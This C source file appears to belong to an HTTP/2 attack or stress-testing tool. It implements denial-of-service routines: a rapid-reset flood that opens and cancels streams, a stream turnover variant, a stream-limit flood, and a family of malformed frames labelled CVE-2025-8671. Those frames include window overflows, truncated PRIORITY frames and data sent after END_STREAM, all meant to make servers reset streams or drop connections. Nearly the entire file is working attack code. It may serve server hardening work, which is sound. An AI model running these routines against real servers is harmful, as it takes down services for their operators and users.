/* resets - attacks by streams that come and go. */
#include "attacks/siege/play.h"
#include "base/util.h"

enum { OPEN = 100, AT_ONCE = 50 }; /* streams that a server allows; that come in one go */

static void open_and_reset(struct foe *f, struct move *m)
{
    for (int i = 0; i < AT_ONCE; i++, m->sent++)
        vitro_frame_write_rst_stream(&f->out, foe_open(f, play_chat), H2_CANCEL);
}

void attack_rapid_reset(struct move *m)
{
    play_alone(m, foe_begin, open_and_reset);
}

/* The stream that has been open for longest goes before the next one comes. */
static void turn_over(struct foe *f, struct move *m)
{
    for (int i = 0; i < AT_ONCE; i++, m->sent++) {
        if (f->streams >= OPEN)
            vitro_frame_write_rst_stream(&f->out, 2 * (f->streams - OPEN) + 1, H2_CANCEL);
        foe_open(f, play_chat);
    }
}

void attack_turnover(struct move *m)
{
    play_alone(m, foe_begin, turn_over);
}

/* Who has not acknowledged the limit may not know it (RFC 9113, 5.1.2): refused, one by one. */
static void open_more(struct foe *f, struct move *m)
{
    for (int i = 0; i < AT_ONCE; i++, m->sent++)
        foe_open(f, play_chat);
}

void attack_too_many(struct move *m)
{
    play_alone(m, foe_begin_rude, open_more);
}

/* ---- resets that the server is made to send (CVE-2025-8671) --------------------------------- */

/* Over 2^31 - 1 (RFC 9113, 6.9.1). */
static void overflow(struct foe *f, uint32_t stream)
{
    vitro_frame_write_window_update(&f->out, stream, INT32_MAX);
}

static void open_by_nothing(struct foe *f, uint32_t stream)
{
    vitro_frame_write_window_update(&f->out, stream, 0);
}

static void cut_priority(struct foe *f, uint32_t stream)
{
    vitro_frame_write_raw(&f->out, (struct frame_head){ 0, stream, FRAME_PRIORITY, 0, false },
                          (vitro_bytes){ (const uint8_t *)"\0\0\0", 4 });
}

/* Trailers without END_STREAM are none (RFC 9113, 8.1). */
static void begin_again(struct foe *f, uint32_t stream)
{
    foe_request(f, stream, play_chat);
}

static void end(struct foe *f, uint32_t stream)
{
    vitro_frame_write_data(&f->out, stream, FRAME_END_STREAM, (vitro_bytes){ NULL, 0 }, NULL);
}

/* It has ended, and goes on (RFC 9113, 5.1). */
static void speak_after_end(struct foe *f, uint32_t stream)
{
    end(f, stream);
    vitro_frame_write_data(&f->out, stream, 0, (vitro_bytes){ (const uint8_t *)"\0", 1 }, NULL);
}

static void trail_after_end(struct foe *f, uint32_t stream)
{
    end(f, stream);
    foe_request(f, stream, play_chat);
}

/* ---- which of them cost a stream, and which the connection ----------------------------------- */

static void (*mistake)(struct foe *f, uint32_t stream);

/* All streams that are allowed; the next ones, once the server has reset these. */
static void open_and_err(struct foe *f, struct move *m)
{
    uint32_t first = 2 * f->streams + 1;

    for (uint32_t i = 0; i < OPEN; i++)
        foe_open(f, play_chat);
    foe_send(f);
    for (uint32_t i = 0; i < OPEN; i++, m->sent++)
        mistake(f, first + 2 * i);
    foe_send(f);
    foe_await(f, FRAME_RST_STREAM, f->streams);
}

static void make_mistakes(struct move *m, void (*const all[])(struct foe *f, uint32_t stream),
                          size_t n)
{
    for (size_t i = 0; i < n; i++) {
        mistake = all[i];
        play_alone(m, foe_begin, open_and_err);
    }
}

void attack_made_you_reset(struct move *m)
{
    static void (*const all[])(struct foe *, uint32_t) = { overflow, begin_again };

    make_mistakes(m, all, ARRAY_LEN(all));
}

void attack_made_you_leave(struct move *m)
{
    static void (*const all[])(struct foe *, uint32_t) = {
        open_by_nothing,
        cut_priority,
        speak_after_end,
        trail_after_end,
    };

    make_mistakes(m, all, ARRAY_LEN(all));
}
